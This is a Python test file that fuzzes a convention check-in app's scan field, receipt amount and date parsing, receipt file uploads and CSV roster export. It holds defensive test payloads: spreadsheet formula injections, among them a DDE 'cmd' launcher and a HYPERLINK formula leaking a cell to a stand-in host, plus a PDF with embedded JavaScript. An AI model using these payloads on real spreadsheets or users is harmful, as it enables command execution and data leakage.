"""Bad input, tried on purpose (issue 6): a bounded hypothesis suite on real files.

Each attack names what the app must do: no exception, a precise refusal, and nothing written
unless the input was good. Bounded (max 50 examples each, no deadline) to run in CI.
"""

import csv
import io
import random
import string

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from desktop.models import attachments, checkin, codes, members, money, parking
from desktop.models.checkin import Outcome
from desktop.models.codes import ALPHABET, BadgeCode, ScanProblem
from desktop.models.convention import get_convention, get_session
from desktop.models.facts import HandoutOutcome
from desktop.models.receipt_form import ReceiptForm
from desktop.models.roster import import_roster
from desktop.models.spreadsheet import csv_text, safe_cell
from desktop.models.workspace import create_file

BOUNDED = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# Every code point, control characters, format characters and lone surrogates included.
ANY_CHAR = st.characters(codec=None, exclude_categories=())
SESSION = "we1-samedi"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def _state(db):
    """Everything a scan or a receipt may write."""
    return (
        db.execute("SELECT COUNT(*) FROM events").fetchone()[0],
        db.execute("SELECT COUNT(*) FROM attachments").fetchone()[0],
        db.execute("SELECT COUNT(*) FROM badges").fetchone()[0],
    )


def _a_badge(db):
    member = members.all_members(db)[0]
    return member, members.current_badge(db, member.id)


# --- the scan field ---------------------------------------------------------------------------


@BOUNDED
@given(raw=st.text(alphabet=ANY_CHAR, max_size=600))
@example(raw="")
@example(raw="\x00\x1b[31m\r\n\t")
@example(raw="\ud800\udfff")  # lone surrogates (a broken paste)
@example(raw="\u202eGUEDOC")  # right-to-left override
@example(raw="x" * 10_000)
@example(raw="GU" * 5_000)
def test_any_text_in_the_scan_field_is_an_outcome_never_a_crash(demo_db, desk, clock, raw):
    parsed = codes.parse_scan(raw)
    assert isinstance(parsed, BadgeCode | ScanProblem)
    before = _state(demo_db)
    result = checkin.check_in(demo_db, raw, get_session(demo_db, SESSION), desk, clock)
    assert isinstance(result.outcome, Outcome)
    assert result.outcome is not Outcome.CHECKED_IN  # random text never opens a door
    assert _state(demo_db) == before  # nothing written


def test_ten_thousand_characters_are_refused_as_too_long(demo_db, desk, clock):
    _, badge = _a_badge(demo_db)
    before = _state(demo_db)
    for raw in ("A" * 10_000, badge * 300, "\x00" * 10_000):
        result = checkin.check_in(demo_db, raw, get_session(demo_db, SESSION), desk, clock)
        assert result.outcome is Outcome.TOO_LONG
    assert _state(demo_db) == before


QWERTY_TO_AZERTY = str.maketrans("aqzwmAQZWM1234567890", "qawz,QAWZ?&é\"'(-è_çà")


@BOUNDED
@given(
    case=st.lists(st.booleans(), min_size=38, max_size=38),
    prefix=st.sampled_from(["", "]Q1", '&é"', "\x02", " ", "]Q3\x1d"]),
    suffix=st.sampled_from(["", "\r", "\t", "\n", "\x03", "\x04", " \r\n"]),
)
def test_azerty_mangled_case_and_scanner_noise_still_read_the_code(
    demo_db, desk, clock, case, prefix, suffix
):
    """The alphabet has none of A, Q, Z, W, M and no digit: the wrong layout types the same
    letters; Caps Lock and scanner prefixes or suffixes change nothing."""
    _, badge = _a_badge(demo_db)
    typed = badge.translate(QWERTY_TO_AZERTY)
    assert typed == badge
    mangled = "".join(c.lower() if low else c for c, low in zip(typed, case, strict=False))
    parsed = codes.parse_scan(prefix + mangled + suffix)
    assert isinstance(parsed, BadgeCode) and parsed.code == badge


def test_a_digit_code_typed_on_the_wrong_layout_says_scanner_misconfigured(demo_db, desk, clock):
    before = _state(demo_db)
    raw = "1234567890".translate(QWERTY_TO_AZERTY)  # &é"'(-è_çà
    result = checkin.check_in(demo_db, raw, get_session(demo_db, SESSION), desk, clock)
    assert result.outcome is Outcome.SCANNER_MISCONFIGURED
    assert _state(demo_db) == before


@BOUNDED
@given(seed=st.integers(0, 2**32 - 1))
def test_codes_of_another_convention_are_refused_and_write_nothing(demo_db, desk, clock, seed):
    own = get_convention(demo_db).code_tag
    rng = random.Random(seed)
    tag = own
    while tag == own:
        tag = "".join(rng.choice(ALPHABET) for _ in range(4))
    before = _state(demo_db)
    result = checkin.check_in(
        demo_db, codes.new_code(tag), get_session(demo_db, SESSION), desk, clock
    )
    assert result.outcome is Outcome.OTHER_CONVENTION
    assert _state(demo_db) == before


@BOUNDED
@given(position=st.integers(2, 37), letter=st.sampled_from(ALPHABET), swap=st.booleans())
def test_forged_check_letters_or_a_changed_letter_never_check_in(
    demo_db, desk, clock, position, letter, swap
):
    _, badge = _a_badge(demo_db)
    chars = list(badge)
    if swap and position < 37:
        chars[position], chars[position + 1] = chars[position + 1], chars[position]
    else:
        chars[position] = letter
    forged = "".join(chars)
    before = _state(demo_db)
    result = checkin.check_in(demo_db, forged, get_session(demo_db, SESSION), desk, clock)
    if forged == badge:  # the "change" kept the same letter
        return
    assert result.outcome in (Outcome.UNREADABLE, Outcome.UNKNOWN_CODE)
    assert _state(demo_db) == before


def test_a_well_formed_code_never_issued_is_unknown(demo_db, desk, clock):
    code = codes.new_code(get_convention(demo_db).code_tag)
    before = _state(demo_db)
    result = checkin.check_in(demo_db, code, get_session(demo_db, SESSION), desk, clock)
    assert result.outcome is Outcome.UNKNOWN_CODE
    assert _state(demo_db) == before


def test_only_a_real_badge_writes_exactly_one_fact(demo_db, desk, clock):
    _, badge = _a_badge(demo_db)
    events, *rest = _state(demo_db)
    result = checkin.check_in(demo_db, badge, get_session(demo_db, SESSION), desk, clock)
    assert result.outcome is Outcome.CHECKED_IN
    assert _state(demo_db) == (events + 1, *rest)


# --- receipt amounts and dates ------------------------------------------------------------


@BOUNDED
@given(text=st.text(alphabet=ANY_CHAR, max_size=40))
@example(text="1e3")
@example(text="-12,50")
@example(text="12,505")
@example(text="99999999999999999999")
@example(text="NaN")
@example(text="١٢")  # Arabic-Indic digits
@example(text="12,50\u00a0€")
def test_any_typed_amount_is_cents_or_a_french_refusal(text):
    parsed = money.parse_cents(text, ceiling_cents=3000)
    if parsed.ok:
        assert isinstance(parsed.cents, int) and 0 < parsed.cents <= 3000
        assert parsed.message == ""
    else:
        assert parsed.cents is None and parsed.problem is not None
        # A sentence for the agent, not an exception's text: "Montant…", "« 12,5x »…", or
        # the amount itself ("31,00 € dépasse le plafond…").
        first = parsed.message[:1]
        assert first.isupper() or first == "«" or first.isdigit()
        assert parsed.message.endswith(".") and "Error" not in parsed.message


@BOUNDED
@given(cents=st.integers(1, 10**9))
def test_amounts_round_trip_exactly_up_to_the_largest(cents):
    parsed = money.parse_cents(money.cents_to_input(cents))
    if cents < 10_000_000:  # 99 999,99 € at most
        assert parsed.cents == cents
        assert money.parse_cents(money.format_cents(cents)).cents == cents
    else:
        assert parsed.problem is money.AmountProblem.TOO_LARGE


@pytest.fixture
def parking_member(demo_db, desk, clock):
    member, badge = _a_badge(demo_db)
    assert parking.set_eligibility(demo_db, member.id, True, "Bus à la demande") == ()
    result = checkin.check_in(demo_db, badge, get_session(demo_db, SESSION), desk, clock)
    assert result.outcome is Outcome.CHECKED_IN
    return member


@BOUNDED
@given(
    amount=st.text(alphabet=ANY_CHAR, max_size=20),
    day=st.text(alphabet=ANY_CHAR, max_size=20),
    time_in=st.text(alphabet=string.printable, max_size=8),
)
@example(amount="12,50", day="", time_in="9h05")  # a good receipt: recorded whole
@example(amount="12,50", day="31/02/2023", time_in="")
@example(amount="12,50", day="2023-13-45", time_in="25:99")
@example(amount="12,50", day="11/11/10000", time_in="")
def test_receipt_form_with_any_amount_and_date_is_recorded_whole_or_not_at_all(
    demo_db, desk, clock, parking_member, tmp_path_factory, amount, day, time_in
):
    scan = tmp_path_factory.mktemp("scan") / "ticket.png"
    scan.write_bytes(PNG)
    form = ReceiptForm("Parking Corum", f"R-{random.random()}", amount, scan, day, time_in)
    session = get_session(demo_db, SESSION)
    before = _state(demo_db)
    result = parking.record_receipt(demo_db, parking_member.id, session, form, desk, clock, "ok")
    assert isinstance(result.outcome, HandoutOutcome)
    if result.outcome is HandoutOutcome.RECORDED:
        events, stored, badges = _state(demo_db)
        assert events == before[0] + 1 and stored <= before[1] + 1 and badges == before[2]
    else:
        assert result.outcome is HandoutOutcome.INVALID
        assert result.errors and all(e.message for e in result.errors)
        assert {e.field for e in result.errors} <= {"amount", "day", "time_in", "time_out"}
        assert _state(demo_db) == before


# --- receipt image files ------------------------------------------------------------------


def _bytes(content):
    def make(path):
        path.write_bytes(content)
        return path

    return make


def _sparse(path, size):
    with open(path, "wb") as handle:
        handle.truncate(size)
    return path


PDF_WITH_JAVASCRIPT = (
    b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"3 0 obj << /S /JavaScript /JS (app.alert('x');) >> endobj\ntrailer << /Root 1 0 R >>\n"
    b"%%EOF\n"
)


@pytest.mark.parametrize(
    ("name", "make", "words"),
    [
        ("vide.png", _bytes(b""), "est vide"),
        ("texte.png", _bytes(b"pas une image" * 10), "ni une image"),
        ("exe.jpg", _bytes(b"MZ\x90\x00" + b"\x00" * 100), "ni une image"),
        ("gros.jpg", lambda p: _sparse(p, 21 * 1024 * 1024), "20 Mo au plus"),
        ("enorme.pdf", lambda p: _sparse(p, 200 * 1024 * 1024), "20 Mo au plus"),
        ("dossier.png", lambda p: p.mkdir() or p, "n'est pas un fichier"),
    ],
)
def test_bad_receipt_files_are_refused_and_nothing_is_written(
    demo_db, desk, clock, parking_member, tmp_path, name, make, words
):
    scan = make(tmp_path / name)
    form = ReceiptForm("Parking Corum", "R-1", "12,50", scan)
    before = _state(demo_db)
    result = parking.record_receipt(
        demo_db, parking_member.id, get_session(demo_db, SESSION), form, desk, clock
    )
    assert result.outcome is HandoutOutcome.INVALID
    [error] = result.errors
    assert error.field == "scan" and words in error.message
    assert _state(demo_db) == before


@pytest.mark.parametrize(
    "pdf",
    [
        PDF_WITH_JAVASCRIPT,
        PDF_WITH_JAVASCRIPT.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"),
    ],
)
def test_a_pdf_with_javascript_is_refused(demo_db, desk, clock, parking_member, tmp_path, pdf):
    scan = tmp_path / "recu.pdf"
    scan.write_bytes(pdf)
    loaded = attachments.load_scan(scan)
    assert not isinstance(loaded, attachments.LoadedFile)
    assert "contenu actif" in loaded.message and "JavaScript" in loaded.message


def test_a_plain_pdf_scan_is_accepted(tmp_path):
    scan = tmp_path / "recu.pdf"
    scan.write_bytes(
        PDF_WITH_JAVASCRIPT.replace(
            b"3 0 obj << /S /JavaScript /JS (app.alert('x');) >> endobj\n", b""
        )
    )
    assert isinstance(attachments.load_scan(scan), attachments.LoadedFile)


@BOUNDED
@given(content=st.binary(min_size=1, max_size=64))
def test_random_bytes_are_an_image_only_with_a_real_signature(tmp_path_factory, content):
    path = tmp_path_factory.mktemp("octets") / "scan"
    path.write_bytes(content)
    loaded = attachments.load_scan(path)
    kind = attachments.media_type(content[:16])
    if kind is None:
        assert not isinstance(loaded, attachments.LoadedFile)
        assert "ni une image" in loaded.message
    else:
        assert isinstance(loaded, attachments.LoadedFile)
        assert loaded.attachment.media_type == kind


# --- roster cells with formulas, never exported back live ----------------------------------

FORMULAS = st.one_of(
    st.sampled_from(
        [
            '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
            "=1+1",
            "+33 6 00 00 00 00",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "=cmd|' /C calc'!A0",
            "|calc",
        ]
    ),
    st.builds(
        lambda lead, rest: lead + rest,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "|"]),
        st.text(alphabet=ANY_CHAR, max_size=30),
    ),
    st.text(alphabet=ANY_CHAR, max_size=30),
)


def _live(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "|")


@BOUNDED
@given(cells=st.lists(FORMULAS, min_size=1, max_size=6))
def test_csv_cells_are_never_live_formulas(cells):
    text = csv_text([f"c{i}" for i in range(len(cells))], [cells])
    [_, row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert not any(_live(cell) for cell in row)
    for typed, written in zip(cells, row, strict=True):
        assert written == safe_cell(typed)
        assert written in (typed, "'" + typed)  # shown as typed, nothing else changed


def test_a_roster_with_formulas_is_exported_back_as_text(tmp_path, clock):
    roster = tmp_path / "liste.csv"
    roster.write_text(
        "Nom;Prénom;Commune\n"
        '"=HYPERLINK(""http://exemple.invalid"",""clic"")";Ana;Montpellier\n'
        "+DUPONT;@Léa;Lattes\n"
        "-MARTIN;=1+1;Pérols\n",
        encoding="utf-8",
    )
    db = create_file(tmp_path / "vide.sqlite")
    report = import_roster(db, roster, clock)
    rows = [[m.surname, m.first_name, m.commune] for m in members.all_members(db)]
    db.close()
    assert report.ok, report.summary  # stored as typed: names are text, not formulas
    assert len(rows) == 3
    text = csv_text(["Nom", "Prénom", "Commune"], rows)
    for row in list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]:
        assert not any(_live(cell) for cell in row), row
    assert "'=HYPERLINK(" in text
